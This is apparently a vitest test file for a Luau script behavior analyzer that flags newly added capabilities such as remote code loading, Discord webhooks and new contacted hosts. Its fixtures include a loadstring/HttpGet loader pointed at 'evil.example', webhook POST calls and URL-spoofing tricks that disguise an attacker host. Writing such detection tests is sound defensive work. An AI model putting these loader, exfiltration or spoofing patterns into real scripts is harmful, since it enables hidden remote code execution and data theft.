import { OPAQUE } from '@scriptyard/luau-behavior/capabilities'
import { analyze } from '@scriptyard/luau-behavior'
import { describe, expect, test } from 'vitest'
import { SERIOUS_BY_HOST, SERIOUS_CAPABILITIES } from '#contract/version-states.ts'
import type { CapabilityId } from '#contract/behavior-names.ts'
import { UNREAD_CARD } from '#server/features/behavior/analyze.ts'
import { type StoredCard, toStoredCard } from '#server/features/behavior/cards.ts'
import { type CheckedCode, findStarts, findUndeclared } from './reasons.ts'

const checked = (card: StoredCard, status: CheckedCode['status'] = 'ready'): CheckedCode => ({ status, card })
const read = (code: string): CheckedCode => checked(toStoredCard(analyze(code)))

interface Piece {
  line: number
  detail: string
}

const finding = (id: CapabilityId, pieces: Piece[], count = pieces.length) => ({
  id,
  certainty: 'code' as const,
  evidence: pieces.map(({ line, detail }) => ({ line, end_line: line, excerpt: '', detail })),
  count,
})
const hostIn = (host: string, line: number) => ({ host, line, contacted: true })
const EMPTY = checked({ capabilities: [], hosts: [], opaque: [] })
const FAILED = checked(toStoredCard(UNREAD_CARD), 'failed')
const failed = [{ id: 'check_failed', host: null, line: null, detail: null }]

describe.each(SERIOUS_CAPABILITIES)('%s', (id) => {
  const once = checked({ capabilities: [finding(id, [{ line: 3, detail: 'a detail' }])] })
  const reason = { id, host: null, line: 3, detail: 'a detail' }

  test('holds a version that starts it, with its line', () => {
    expect(findStarts(EMPTY, once)).toEqual([reason])
    expect(findStarts(once, once)).toEqual([])
    expect(findStarts(once, EMPTY)).toEqual([])
  })

  test('holds a first version that does not declare it', () => {
    expect(findUndeclared(once, null)).toEqual([reason])
    expect(findUndeclared(once, [])).toEqual([reason])
    expect(findUndeclared(once, [id])).toEqual([])
  })
})

test.each(['net.get', 'net.send', 'user.clipboard', 'fs.write'] as const)('%s holds nothing', (id) => {
  const once = checked({
    capabilities: [finding(id, [{ line: 1, detail: 'https://a.example' }])],
    hosts: [hostIn('a.example', 1)],
  })
  expect(findStarts(EMPTY, once)).toEqual([])
  expect(findUndeclared(once, null)).toEqual([])
})

describe.each(SERIOUS_BY_HOST)('the hosts of %s', (id) => {
  const to = (...hosts: string[]) =>
    checked({
      capabilities: [
        finding(
          id,
          hosts.map((host, i) => ({ line: i + 1, detail: `request to https://${host}/x` })),
        ),
      ],
      hosts: hosts.map((host, i) => hostIn(host, i + 1)),
    })

  test('count each by itself, with the line that names it', () => {
    expect(findStarts(to('a.example', 'b.example'), to('b.example', 'a.example'))).toEqual([])
    expect(findStarts(to('a.example'), to('a.example', 'c.example', 'd.example'))).toMatchObject([
      { id, host: 'c.example', line: 2 },
      { id, host: 'd.example', line: 3 },
    ])
    expect(findStarts(EMPTY, to('a.example'))).toMatchObject([{ host: 'a.example', line: 1 }])
  })

  test('are those in its lines, not all that the code contacts', () => {
    const reads = finding('net.get', [{ line: 9, detail: 'HttpGet https://other.example/' }])
    const { card } = to('a.example')
    const more = {
      ...card,
      capabilities: [...(card.capabilities ?? []), reads],
      hosts: [hostIn('a.example', 1), hostIn('other.example', 9)],
    }
    expect(findStarts(to('a.example'), checked(more))).toEqual([])
  })

  test('are known from the lines alone if no detail names them', () => {
    const line = (host: string) =>
      checked({ capabilities: [finding(id, [{ line: 1, detail: 'request' }])], hosts: [hostIn(host, 1)] })
    expect(findStarts(line('a.example'), line('a.example'))).toEqual([])
    expect(findStarts(line('a.example'), line('b.example'))).toMatchObject([{ host: 'b.example', line: 1 }])
  })

  test('may be any that the code contacts if its lines name none', () => {
    const without = (hosts: string[]) =>
      checked({
        capabilities: [finding(id, [{ line: 5, detail: 'request' }])],
        hosts: hosts.map((host) => hostIn(host, 1)),
      })
    expect(findStarts(without(['a.example']), without(['a.example']))).toEqual([])
    expect(findStarts(without(['a.example']), without(['a.example', 'b.example']))).toMatchObject([
      { host: 'b.example', line: 5 },
    ])
  })

  test('that nobody can tell hold the version if there are more of them', () => {
    const known = { line: 1, detail: 'request to https://a.example/x' }
    const hidden = { line: 2, detail: 'request' }
    const card = (pieces: Piece[], count?: number) =>
      checked({ capabilities: [finding(id, pieces, count)], hosts: [hostIn('a.example', 1)] })
    expect(findStarts(card([known]), card([known, hidden]))).toMatchObject([{ id, host: null, line: 2 }])
    expect(findStarts(card([known]), card([hidden]))).toMatchObject([{ id, host: null, line: 2 }])
    expect(findStarts(card([known, hidden]), card([known, hidden]))).toEqual([])
    expect(findStarts(card([known]), card([known], 21))).toMatchObject([{ id, host: null }])
    expect(findStarts(card([known], 21), card([known], 21))).toEqual([])
  })

  test.each([
    ['behind a user name', 'https://a.example@evil.example/x'],
    ['as a longer name', 'https://a.example.evil.example/x'],
    ['behind a long password, where the detail is cut', `https://a.example:${'1'.repeat(200)}`],
    ['in a query', 'https://evil.example/?to=https://a.example/'],
  ])('are not taken for another: %s', (_name, url) => {
    const card = (detail: string) => {
      const pieces = [
        { line: 1, detail: 'request to https://a.example/x' },
        { line: 2, detail },
      ]
      const hosts = [
        hostIn('a.example', 1),
        ...(detail.includes('evil')
          ? [hostIn(detail.includes('a.example.evil') ? 'a.example.evil.example' : 'evil.example', 2)]
          : []),
      ]
      return checked({ capabilities: [finding(id, pieces)], hosts })
    }
    const before = card('request to https://a.example/y')
    expect(findStarts(before, before)).toEqual([])
    expect(findStarts(before, card(`request to ${url}`.slice(0, 200)))).toHaveLength(1)
  })
})

describe('code that the analyzer reads', () => {
  const GOOD = 'loadstring(game:HttpGet("https://good.example/x"))()'

  test('holds a loader that gets another address, also one that is put together', () => {
    expect(findStarts(read(GOOD), read(`${GOOD}\nprint(1)`))).toEqual([])
    expect(findStarts(read(GOOD), read(GOOD.replace('good', 'evil')))).toMatchObject([
      { id: 'code.remote', host: 'evil.example', line: 1 },
    ])
    const dynamic = 'print(game:HttpGet(workspace.Name))'
    const moved = 'loadstring(game:HttpGet(workspace.Name))()'
    expect(findStarts(read(`${dynamic}\n${GOOD}`), read(moved))).toMatchObject([
      { id: 'code.remote', host: null, line: 1 },
    ])
  })

  test('holds a webhook in the place of another, without its secret', () => {
    const secret = 'a'.repeat(68)
    const code = `request({ Url = "https://discord.com/api/webhooks/123456789012345678/${secret}", Method = "POST", Body = "x" })`
    const reasons = findStarts(read('print(1)'), read(code))
    expect(reasons.map(({ id }) => id)).toEqual(['net.webhook', 'shape.secret'])
    expect(JSON.stringify(reasons)).not.toContain(secret.slice(0, 20))
    expect(findUndeclared(read(code), ['net.webhook'])).toMatchObject([{ id: 'shape.secret', line: 1 }])
  })

  test('holds the 21st webhook, which the card has no line of', () => {
    const calls = (hosts: string[]) =>
      hosts
        .map((host) => `request({ Url = "https://${host}/api/webhooks/1/x", Method = "POST", Body = "x" })`)
        .join('\n')
    const twenty = Array.from({ length: 20 }, () => 'discord.com')
    const former = read(calls(twenty))
    expect(findStarts(former, former)).toEqual([])
    expect(findStarts(former, read(calls([...twenty, 'discordapp.com'])))).not.toEqual([])
  })
})

describe('what could not be followed', () => {
  const opaque = (...counts: [string, number][]) =>
    checked({ capabilities: [], hosts: [], opaque: counts.map(([reason, count]) => ({ reason, count })) })
  const reason = [{ id: 'opaque', host: null, line: null, detail: null }]

  test('holds a version if it is more than before, or something else', () => {
    expect(findStarts(opaque(['a', 1]), opaque(['a', 2]))).toEqual(reason)
    expect(findStarts(opaque(['a', 1]), opaque(['b', 1]))).toEqual(reason)
    expect(findStarts(EMPTY, opaque(['a', 1]))).toEqual(reason)
  })

  test('holds nothing if it is as much as before or less, or a first version', () => {
    expect(findStarts(opaque(['a', 2], ['b', 1]), opaque(['a', 2]))).toEqual([])
    expect(findStarts(opaque(['a', 2]), opaque(['a', 1]))).toEqual([])
    expect(findStarts(opaque([OPAQUE.downloaded, 1]), opaque([OPAQUE.downloaded, 2]))).toEqual([])
    expect(findUndeclared(opaque(['a', 9]), null)).toEqual([])
  })

  test('is not named beside what the version starts', () => {
    const next = checked({
      capabilities: [finding('fs.delete', [{ line: 1, detail: 'delfile' }])],
      opaque: [{ reason: 'a', count: 1 }],
    })
    expect(findStarts(EMPTY, next).map(({ id }) => id)).toEqual(['fs.delete'])
  })
})

test('a check that failed holds every version, and an update of code whose check failed starts what it does', () => {
  expect(findUndeclared(FAILED, SERIOUS_CAPABILITIES)).toEqual(failed)
  expect(findStarts(EMPTY, FAILED)).toEqual(failed)
  expect(findStarts(FAILED, FAILED)).toEqual(failed)
  const next = checked({ capabilities: [finding('code.remote', [{ line: 1, detail: 'loadstring' }])] })
  expect(findStarts(FAILED, next).map(({ id }) => id)).toEqual(['code.remote'])
})

test('a version that starts very much has at most 50 reasons', () => {
  const hosts = Array.from({ length: 80 }, (_, i) => `host${i}.example`)
  const card = (names: string[]) =>
    checked({
      capabilities: [finding('code.remote', [{ line: 1, detail: 'a' }])],
      hosts: names.map((host) => hostIn(host, 1)),
    })
  expect(findStarts(card(['first.example']), card(hosts))).toHaveLength(50)
})
